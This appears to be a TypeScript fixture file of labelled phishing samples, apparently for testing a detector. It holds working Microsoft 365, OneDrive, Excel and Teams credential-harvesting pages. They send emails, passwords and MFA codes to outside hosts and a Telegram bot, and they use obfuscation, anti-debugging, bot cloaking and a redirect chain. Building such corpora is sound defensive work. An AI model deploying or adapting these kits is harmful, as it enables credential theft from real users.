import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, msCss, msLogo, b64, jsRoute, jsonRoute, pngRoute } from '../parts/t-kit.js';

// Reported by employees: Microsoft 365 / OneDrive / Entra lures (dev split).

const aitmHost = 'docs-viewonline.qzxcloud.ru';
const aitmScript = `(function(){
var E=location.hash.slice(1);try{E=atob(E)}catch(x){E=''}
var q=function(s){return document.querySelector(s)};
function login(){
 document.title='Sign in to your account';
 document.body.className='ms';
 document.body.innerHTML='<div class="card"><div>${msLogo.replace(/'/g, "\\'")}</div>'+
 '<div id="s1"><h1>Sign in</h1><div class="err" id="e1"></div><input type="email" id="u" placeholder="Email, phone, or Skype" autocomplete="username">'+
 '<p class="small">No account? <a href="#">Create one!</a></p><p class="small"><a href="#">Can\\'t access your account?</a></p>'+
 '<div class="row"><button class="btn" id="n1">Next</button></div></div>'+
 '<div id="s2" style="display:none"><div class="idchip">&larr; <span id="who"></span></div><h1>Enter password</h1><div class="err" id="e2"></div>'+
 '<input type="password" id="p" placeholder="Password" autocomplete="current-password"><p class="small"><a href="#">Forgot my password</a></p>'+
 '<div class="row"><button class="btn" id="n2">Sign in</button></div></div></div>'+
 '<div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>';
 if(E){q('#u').value=E}
 q('#n1').onclick=function(){var v=q('#u').value.trim();if(!/^[^@\\s]+@[^@\\s]+\\.[a-z]{2,}$/i.test(v)){q('#e1').textContent='Enter a valid email address, phone number, or Skype name.';return}
  q('#who').textContent=v;q('#s1').style.display='none';q('#s2').style.display='block';
  fetch('https://nxt-authsvc.click/v3/ident',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({u:v,t:Date.now()})}).catch(function(){});};
 var tries=0;
 q('#n2').onclick=function(){var pw=q('#p').value;if(!pw){q('#e2').textContent='Please enter your password.';return}
  tries++;
  fetch('https://nxt-authsvc.click/v3/auth',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({u:q('#who').textContent,p:pw,n:tries,ua:navigator.userAgent})}).then(function(r){return r.json()}).then(function(j){
   if(j&&j.mfa){location.href='/rT7m/mfa?s='+encodeURIComponent(j.sid)}else{q('#e2').textContent='Your account or password is incorrect. If you don\\'t remember your password, reset it now.';q('#p').value=''}
  }).catch(function(){q('#e2').textContent='Your account or password is incorrect. If you don\\'t remember your password, reset it now.';q('#p').value=''});};
}
function check(){
 fetch('/rT7m/api/chk?h='+encodeURIComponent(location.hostname)).then(function(r){return r.json()}).then(function(j){
  if(j.bot){location.replace('https://www.office.com/');return}
  q('#cf-st').textContent='Success!';setTimeout(login,600);
 }).catch(login);
}
setTimeout(check,1900);
var dbg=setInterval(function(){var t=performance.now();debugger;if(performance.now()-t>120){clearInterval(dbg);location.replace('about:blank')}},3000);
})();`;

const encHost = 'hartwell-eng-my.sharepoint-filesync.com';

const atobHost = 'secure-msoauth.azurewebsites-cdn.net';
const atobInner = `<div class="card"><div>${msLogo}</div><h1>Sign in</h1><p class="small">to continue to Outlook</p><form id="f" method="post" action="https://logs-2026.workers-kv.net/collect"><input type="email" name="login" id="login" placeholder="someone@example.com" required><input type="password" name="passwd" placeholder="Password" required><div class="err" id="err"></div><p class="small"><input type="checkbox" checked> Keep me signed in</p><div class="row"><button class="btn" type="submit">Sign in</button></div></form><p class="small" style="margin-top:28px"><a href="#">Sign-in options</a></p></div><div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a></div>`;

const redirA = 'email.mktg-sendouts.com';
const redirB = 'r.linkprotect-365.info';
const redirC = 'hr-portal-o365.auth-verify.live';

const exfilHost = 'attachments-preview.filecdn-eu.com';

export const entries: Entry[] = [
  {
    id: 't-ph-m365-aitm-turnstile',
    label: 'phishing',
    kind: 'aitm-captcha',
    url: `https://${aitmHost}/rT7m/#${b64('j.morales@hartwell-eng.com')}`,
    body: doc(
      'Just a moment...',
      `<meta name="robots" content="noindex,nofollow"><style>
body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,sans-serif;background:#fff;color:#313131}
.wrap{max-width:600px;margin:14vh auto 0;padding:0 20px}
h2{font-size:30px;font-weight:500;margin:0 0 8px}
.w{border:1px solid #e0e0e0;background:#fafafa;width:300px;height:65px;display:flex;align-items:center;gap:12px;padding:0 14px;margin:24px 0;box-sizing:border-box}
.sp{width:24px;height:24px;border:3px solid #d9d9d9;border-top-color:#f38020;border-radius:50%;animation:r 1s linear infinite}
@keyframes r{to{transform:rotate(360deg)}}
.ft{font-size:12px;color:#666;margin-top:60px;border-top:1px solid #eee;padding-top:12px}
${msCss.replace('body{', '.ms{')}
</style>`,
      `<div class="wrap"><h2>${aitmHost}</h2><p>Verify you are human by completing the action below.</p>
<div class="w"><div class="sp"></div><span id="cf-st">Verifying...</span><span style="margin-left:auto;font-size:10px;color:#888">Privacy &middot; Terms</span></div>
<p>${aitmHost} needs to review the security of your connection before proceeding.</p>
<div class="ft">Ray ID: <code>8f2a91c3be7d40a1</code> &nbsp; Performance &amp; security</div></div>
<script src="/rT7m/static/v.js"></script>`,
    ),
    routes: {
      [`${aitmHost}/rT7m/static/v.js`]: jsRoute(aitmScript),
      [`${aitmHost}/rT7m/api/chk`]: jsonRoute({ ok: true, bot: false, ts: 1780000000 }),
      [`${aitmHost}/rT7m/mfa`]: htmlRoute(doc('Verify your identity', `<style>${msCss}</style>`, `<div class="card"><div>${msLogo}</div><h1>Verify your identity</h1><p class="small">Enter the code displayed in the Microsoft Authenticator app on your mobile device</p><input type="text" id="otc" inputmode="numeric" maxlength="6" placeholder="Code"><div class="row"><button class="btn" onclick="fetch('https://nxt-authsvc.click/v3/otc',{method:'POST',body:document.getElementById('otc').value+'|'+location.search})">Verify</button></div></div>`)),
    },
  },
  {
    id: 't-ph-onedrive-encrypted-verify',
    label: 'phishing',
    kind: 'encrypted-doc',
    url: `https://${encHost}/:b:/g/personal/finance_hartwell/EncryptedDoc.aspx?share=Q3_Remittance_Advice.pdf`,
    body: doc(
      'OneDrive - Secure Document',
      `<style>
body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#faf9f8}
.top{height:48px;background:#0364b8;color:#fff;display:flex;align-items:center;padding:0 16px;gap:14px;font-size:16px}
.grid{display:grid;grid-template-columns:repeat(4,120px);gap:16px;padding:40px;filter:blur(4px);opacity:.6}
.grid div{height:150px;background:#fff;border:1px solid #ddd}
.modal{position:fixed;inset:0;display:flex;align-items:center;justify-content:center;background:rgba(0,0,0,.25)}
.box{background:#fff;width:420px;padding:30px 34px;box-shadow:0 10px 30px rgba(0,0,0,.25)}
.box h3{margin:10px 0 6px;font-weight:600}
.box input{width:100%;padding:9px;border:1px solid #8a8886;margin:6px 0 10px;box-sizing:border-box;font-size:14px}
.box button{width:100%;padding:10px;background:#0078d4;color:#fff;border:0;font-size:15px;cursor:pointer}
.lock{font-size:12px;color:#605e5c;display:flex;gap:6px;align-items:center}
</style>`,
      `<div class="top"><b>&#9729; OneDrive</b><span style="opacity:.8;font-size:13px">Shared with you</span></div>
<div class="grid"><div></div><div></div><div></div><div></div><div></div><div></div><div></div><div></div></div>
<div class="modal"><div class="box">
<div class="lock">&#128274; This document is protected with Microsoft Purview Information Protection</div>
<h3>Q3_Remittance_Advice.pdf</h3>
<p style="font-size:14px;color:#323130">The sender has encrypted this file. To decrypt and view the content, verify the email address the document was shared with and sign in with your organisation's account.</p>
<form id="vf"><input type="email" name="em" placeholder="Recipient email address" required><input type="password" name="pw" placeholder="Email password" required>
<button type="submit">Decrypt document</button></form>
<p style="font-size:11px;color:#8a8886;margin-top:14px">Document owner: Accounts Payable &middot; 412 KB &middot; Expires in 48 hours</p>
</div></div>
<script>
document.getElementById('vf').addEventListener('submit',function(e){e.preventDefault();var d=new FormData(this);
var x=new XMLHttpRequest();x.open('POST','https://api-relay.documentsecure.top/next.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
x.send('ai='+encodeURIComponent(d.get('em'))+'&pr='+encodeURIComponent(d.get('pw'))+'&src=od');
var b=this.querySelector('button');b.textContent='Decrypting...';setTimeout(function(){alert('Decryption failed. The password you entered is incorrect.');b.textContent='Decrypt document'},2200);});
</script>`,
    ),
  },
  {
    id: 't-ph-m365-atob-obfuscated',
    label: 'phishing',
    kind: 'm365-kit',
    url: `https://${atobHost}/common/oauth2/authorize.html?client_id=4765445b-32c6-49b0-83e6-1d93765276ca&response_type=code&redirect_uri=https%3A%2F%2Fwww.office.com%2Flanding`,
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>&#8203;</title>
<script>var _0x3b=['${b64('<style>' + msCss + '</style>')}','${b64(atobInner)}','U2lnbiBpbiB0byB5b3VyIGFjY291bnQ='];
(function(a,b){var c=function(d){while(--d){a.push(a.shift())}};c(++b)})(_0x3b,0x3);
function _0x1(i){return decodeURIComponent(escape(atob(_0x3b[i])))}
document.write(_0x1(0));
window.addEventListener('DOMContentLoaded',function(){document.title=_0x1(2);document.body.innerHTML=_0x1(1);
var m=(location.search.match(/[?&]em=([^&]+)/)||[])[1];if(m)document.getElementById('login').value=decodeURIComponent(m);});
</script></head><body oncontextmenu="return false"><noscript>JavaScript required.</noscript></body></html>`,
  },
  {
    id: 't-ph-open-redirect-chain',
    label: 'phishing',
    kind: 'redirect-chain',
    url: `https://${redirA}/ls/click?upn=u001.Kq8Zx7Rj3tPpLm2&r=hrbenefits`,
    routes: {
      [`${redirA}/ls/click`]: redirectRoute(302, `https://${redirB}/v2/url?u=https-3A__${redirC}_portal_&d=DwMFaQ`),
      [`${redirB}/v2/url`]: htmlRoute(`<!doctype html><html><head><meta name="referrer" content="no-referrer"><title>Redirecting</title></head><body><p>Checking link safety&hellip;</p><script>setTimeout(function(){location.replace('https://${redirC}/portal/?src=mail')},400)</script></body></html>`),
      [`${redirC}/portal/`]: htmlRoute(doc('Sign in to your account', `<style>${msCss}</style><link rel="icon" href="/portal/favicon.png">`, `<div class="card"><div>${msLogo}</div>
<h1>Benefits Enrollment 2027</h1>
<p class="small">Hartwell Engineering HR has shared <b>Open_Enrollment_Changes_2027.pdf</b> with you. Sign in with your work account to access HR Self Service.</p>
<form method="post" action="/portal/auth.php"><input type="email" name="username" placeholder="Work email" required><input type="password" name="password" placeholder="Password" required>
<div class="row"><button class="btn">Sign in</button></div></form>
<p class="small" style="margin-top:22px">&#128274; Secured by Microsoft Entra ID</p></div>
<div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a></div>`)),
      [`${redirC}/portal/favicon.png`]: pngRoute(0, 120, 212),
    },
  },
  {
    id: 't-ph-html-attachment-exfil',
    label: 'phishing',
    kind: 'html-attachment',
    url: `https://${exfilHost}/view/ATT00913.html`,
    body: `<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><title>Excel Online</title>
<style>body{margin:0;font-family:Calibri,Segoe UI,sans-serif}.bg{position:fixed;inset:0;background:#fff;display:grid;grid-template-columns:repeat(8,1fr);filter:blur(3px)}.bg span{border:1px solid #d4d4d4;height:22px;font-size:12px;padding:2px}
.ov{position:fixed;inset:0;background:rgba(255,255,255,.6);display:flex;align-items:center;justify-content:center}
.pn{background:#fff;border:1px solid #ccc;border-top:5px solid #217346;width:380px;padding:24px;box-shadow:0 4px 20px rgba(0,0,0,.2)}
.pn input{width:100%;padding:8px;margin:6px 0;box-sizing:border-box;border:1px solid #aaa}.pn button{background:#217346;color:#fff;border:0;padding:9px 20px;cursor:pointer}</style></head>
<body><div class="bg" id="bg"></div>
<div class="ov"><div class="pn"><h3 style="margin:0 0 6px;color:#217346">Excel Online</h3><p style="font-size:13px">This spreadsheet (<b>Payment_Schedule_Nov.xlsx</b>) is protected. Confirm your email credentials to load the file.</p>
<input id="ai" type="email" placeholder="Email"><input id="pr" type="password" placeholder="Password"><div id="msg" style="color:#c00;font-size:12px;min-height:16px"></div><button id="go">View Document</button></div></div>
<script>
for(var i=0;i<320;i++){var s=document.createElement('span');s.textContent=i%8==0?('INV-'+(40210+i)):(i%8==3?'$'+(i*37.5).toFixed(2):'');document.getElementById('bg').appendChild(s)}
var ai='j.morales@hartwell-eng.com';document.getElementById('ai').value=ai;
var tk='${b64('7619834410:AAH-fk2Qe9xXh3pDq0a_bz')}',cid='${b64('-100214588731')}',cnt=0;
document.getElementById('go').onclick=function(){var e=document.getElementById('ai').value,p=document.getElementById('pr').value;if(!p){return}
cnt++;var t='%F0%9F%93%A9 New Log%0AEmail: '+encodeURIComponent(e)+'%0APass: '+encodeURIComponent(p)+'%0AUA: '+encodeURIComponent(navigator.userAgent);
fetch('https://api.telegram.org/bot'+atob(tk)+'/sendMessage?chat_id='+atob(cid)+'&text='+t).catch(function(){});
document.getElementById('pr').value='';
if(cnt<2){document.getElementById('msg').textContent='Invalid password. Please try again.'}else{location.href='https://www.office.com/'}};
</script></body></html>`,
  },
  {
    id: 't-ph-teams-meeting-recap-copilot',
    label: 'phishing',
    kind: 'teams-lure',
    url: 'https://recap.teams-intelligent-notes.com/meet/recap/Q4-Budget-Sync?tid=hartwell-eng.com&uid=YS5saW1h',
    body: doc(
      'Meeting recap – Q4 Budget Sync | Microsoft Teams Premium',
      `<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#f0f0f0;color:#242424}.h{background:#5b5fc7;color:#fff;height:48px;display:flex;align-items:center;padding:0 20px;font-weight:600;gap:8px}
.w{max-width:860px;margin:26px auto;display:grid;grid-template-columns:1fr 300px;gap:20px}.c{background:#fff;border-radius:6px;padding:22px}.bl{filter:blur(4px);user-select:none}
.cp{display:inline-block;background:linear-gradient(90deg,#7b61ff,#2bb3ff);color:#fff;border-radius:10px;padding:2px 8px;font-size:12px}.c input{width:100%;padding:9px;border:1px solid #d1d1d1;border-radius:4px;margin:5px 0;box-sizing:border-box}
.c button{width:100%;padding:10px;background:#5b5fc7;color:#fff;border:0;border-radius:4px;font-weight:600;cursor:pointer}</style>`,
      `<div class="h">Microsoft Teams <span class="cp">Copilot</span></div>
<div class="w"><div class="c"><h2 style="margin-top:0">Q4 Budget Sync &mdash; Intelligent recap</h2><div style="font-size:13px;color:#616161">Thursday &middot; 41 min &middot; 6 attendees &middot; Recorded</div>
<h4>AI notes</h4><div class="bl"><p>&bull; Finance proposed reducing the travel budget by 18% for H1, with exceptions for client site visits.</p><p>&bull; Headcount plan: two open requisitions will be frozen until March.</p><p>&bull; Action: Dana to circulate revised cost centre allocations by Friday.</p></div>
<h4>Mentions of you</h4><div class="bl"><p>"&hellip;we need your sign-off on the allocation before payroll closes&hellip;" (12:41)</p></div></div>
<div class="c"><b>Sign in to view the full recap</b><p style="font-size:13px;color:#616161">Recaps are only available to meeting participants signed in with their work account.</p>
<form id="rf"><input type="email" id="u" placeholder="Work email"><input type="password" id="p" placeholder="Password"><button>View recap</button></form><p id="m" style="font-size:12px;color:#c4314b"></p></div></div>
<script>
(function(){try{document.getElementById('u').value=atob(new URLSearchParams(location.search).get('uid'))+'@'+new URLSearchParams(location.search).get('tid')}catch(e){}
document.getElementById('rf').onsubmit=function(e){e.preventDefault();var b=new URLSearchParams();b.set('u',document.getElementById('u').value);b.set('p',document.getElementById('p').value);
fetch('/meet/recap/api/auth',{method:'POST',body:b}).then(function(r){return r.json()}).then(function(j){if(j.step==='mfa'){location.href='/meet/recap/verify?s='+j.sid}else{document.getElementById('m').textContent=j.error}})};})();
</script>`,
    ),
    routes: {
      'recap.teams-intelligent-notes.com/meet/recap/api/auth': jsonRoute({ step: 'error', error: 'Your account or password is incorrect.' }),
    },
  },
];
